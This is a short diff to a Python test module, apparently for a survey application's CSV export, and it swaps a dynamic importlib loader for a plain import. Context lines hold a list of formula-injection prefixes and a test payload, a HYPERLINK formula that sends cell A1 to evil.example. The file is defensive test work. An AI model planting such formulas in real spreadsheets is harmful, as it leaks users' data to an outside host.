@@ -15,23 +15,11 @@ from scoring.result import from_dict
 from survey.extensions import db
 from survey.services import exports, fieldwork
 
+from . import admin_support as support
+
 PREFIXES = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
 PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"click")'
 DANGEROUS = tuple(PREFIXES)
-
-
-def load_admin_support():  # type: ignore[no-untyped-def]
-    import importlib.util
-    from pathlib import Path
-
-    path = Path(__file__).with_name("test_admin_support.py")
-    spec = importlib.util.spec_from_file_location("admin_support", path)
-    module = importlib.util.module_from_spec(spec)
-    spec.loader.exec_module(module)  # type: ignore[union-attr]
-    return module
-
-
-support = load_admin_support()
 
 
 def csv_cells(data: bytes) -> list[list[str]]:
